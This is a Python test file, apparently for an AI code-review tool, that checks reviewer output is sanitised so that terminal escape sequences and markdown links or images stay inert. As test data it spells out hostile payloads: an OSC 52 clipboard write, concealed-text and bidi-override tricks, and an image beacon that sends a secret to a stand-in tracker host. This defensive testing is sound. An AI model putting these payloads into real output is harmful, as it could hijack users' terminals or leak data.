"""Reviewer text can neither drive a terminal nor make a renderer fetch, link or notify:
every C0/C1 control but newline and tab (ESC sequences: OSC 52 clipboard writes, concealed
text, cursor moves; single-character CSI/OSC; bidi overrides) is written as a visible escape
in every report and every printed line, and images, links, autolinks and @mentions stay text
in the markdown reports and in the reviewdog messages."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
from pathlib import Path

import orjson
import pytest

from conftest import bin_dir, run_filter

markdown_it = pytest.importorskip("markdown_it")

ESCAPES = ["\x1b]52;c;ZWNobyBwd25lZA==\x07", "\x1b[8mhidden\x1b[0m", "\x1b[2J\x1b[H",
           "\x9b31m", "\x9d0;title\x9c", "\x1bP+q\x1b\\", "\x08\x08\x08", "\rFAKE", "\x7f",
           "\u202egnp.exe", "\x00", "\x0b", "\x1a"]
LINKS = ["![beacon](https://tracker.example.invalid/p.png?d=SECRET)",
         "[click](https://phish.example.invalid/login)", "<https://auto.example.invalid>",
         "https://bare.example.invalid/x", "www.bare-www.example.invalid",
         "ping @octocat and @org/team", "mail user@example.invalid",
         "![ref][r]\n\n[r]: https://ref.example.invalid/i.png"]
_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _verdicts(text: str) -> bytes:
    recs = [
        {"kind": "reviewer", "run": "r", "mode": "review", "slug": "feat-x", "reviewer": slot,
         "status": "OK", "verdict": verdict, "confidence": "HIGH", "summary": text,
         "output": f"Verdict: {verdict}\n{text}\n", "findings": [
             {"kind": "finding", "origin": slot, "file": "a.py", "line": 3, "summary": text,
              "discussion": text}]}
        for slot, verdict in (("claude", "REVISE"), ("codex", "APPROVE"))
    ]
    return b"".join(orjson.dumps(r) + b"\n" for r in recs)


def _findings(text: str) -> bytes:
    return orjson.dumps({"kind": "finding", "origin": "security", "severity": "critical",
                         "file": "a.py", "line": 3, "subject": text, "discussion": text,
                         "evidence": text}) + b"\n"


def _outputs(tmp_path: Path, text: str) -> dict[str, str]:
    root = tmp_path / "root"
    root.mkdir(parents=True, exist_ok=True)
    out: dict[str, str] = {}
    res = run_filter("consolidate", ["--write", "--date", "2026-11-30", "--root", str(root)],
                     _verdicts(text))
    assert res.code == 0, res.err
    out["printed"] = res.out.decode()
    out["report"] = "".join(p.read_text() for p in (root / "docs" / "council").iterdir())
    for fmt in ("markdown", "rdjsonl", "sarif", "codequality", "findings", "json"):
        res = run_filter("consolidate", ["--no-source", "--format", fmt], _findings(text))
        assert res.code == 0, (fmt, res.err)
        out[fmt] = res.out.decode()
    return out


@pytest.mark.parametrize("escape", ESCAPES, ids=[repr(e)[1:12] for e in ESCAPES])
def test_no_control_character_reaches_any_output(tmp_path, escape):
    outputs = _outputs(tmp_path, f"finding {escape} tail")
    for name, text in outputs.items():
        decoded = text
        if name in ("rdjsonl", "sarif", "codequality", "findings", "json"):
            try:
                decoded = str(orjson.loads(text))
            except orjson.JSONDecodeError:
                decoded = "".join(str(orjson.loads(line)) for line in text.splitlines() if line)
        assert not _ACTIVE.search(decoded), (name, repr(decoded[:400]))
    assert "\\x1b" in outputs["report"] or "\\x9b" in outputs["report"] \
        or "\\x" in outputs["report"] or "\\u202e" in outputs["report"]


# What GFM turns live in plain text besides CommonMark's links: bare URLs, www. hosts,
# e-mail addresses and @mentions.
_GFM_AUTO = re.compile(r"(?i)\b[a-z][a-z0-9+.-]*://|\bwww\.|[A-Za-z0-9._%+-]@[A-Za-z0-9]|"
                       r"(?<![A-Za-z0-9])@[A-Za-z0-9_]")


def _live(markdown: str) -> list[str]:
    """Every image, link and autolink a GFM renderer makes of ``markdown`` (CommonMark's
    through markdown-it, GFM's extensions in text outside code)."""
    md = markdown_it.MarkdownIt("commonmark").enable("table")
    found = []
    for tok in md.parse(markdown):
        for child in tok.children or []:
            if child.type in ("image", "link_open"):
                found.append(f"{child.type} {child.attrGet('src') or child.attrGet('href')}")
            elif child.type == "text":
                found += [f"auto {m[0]}" for m in _GFM_AUTO.finditer(child.content)]
    return found


@pytest.mark.parametrize("attack", LINKS, ids=range(len(LINKS)))
def test_no_image_link_or_mention_is_live(tmp_path, attack):
    baseline = _outputs(tmp_path / "b", "plain words")
    outputs = _outputs(tmp_path / "h", f"finding {attack} tail")
    for name in ("report", "printed", "markdown"):
        assert _live(outputs[name]) == _live(baseline[name]), name
    for line in outputs["rdjsonl"].splitlines():
        message = orjson.loads(line)["message"]
        assert _live(message) == [], message


@pytest.mark.slow
def test_council_review_prints_and_writes_no_escape(tmp_path):
    from procenv import one_file_change

    repo = one_file_change(tmp_path / "p")
    answer = ("Verdict: REVISE\\nConfidence: HIGH\\nFindings:\\n- [high] a.py:1 \\033]52;c;"
              "cHduZWQ=\\007 clipboard \\033[8mconcealed\\033[0m ![b](https://t.invalid/x)\\n"
              "Summary: \\033[2J wiped\\n")
    xdg = tmp_path / "xdg"
    (xdg / "council").mkdir(parents=True)
    (xdg / "council" / "commands").write_text(
        f"alpha = cat > /dev/null; printf {shlex.quote(answer)}\n")
    run_env = {k: v for k, v in os.environ.items() if not k.startswith("COUNCIL_")}
    run_env["XDG_CONFIG_HOME"] = str(xdg)
    res = subprocess.run([str(bin_dir() / "council"), "review", "--base", "main"], cwd=repo,
                         env=run_env, capture_output=True, timeout=300)
    assert res.returncode == 0, res.stderr
    for stream in (res.stdout, res.stderr):
        assert b"\x1b" not in stream and b"\x07" not in stream
    (report,) = (repo / "docs" / "council").glob("*.md")
    text = report.read_text()
    assert not _ACTIVE.search(text)
    assert "\\x1b]52" in text
    assert _live(text) == []
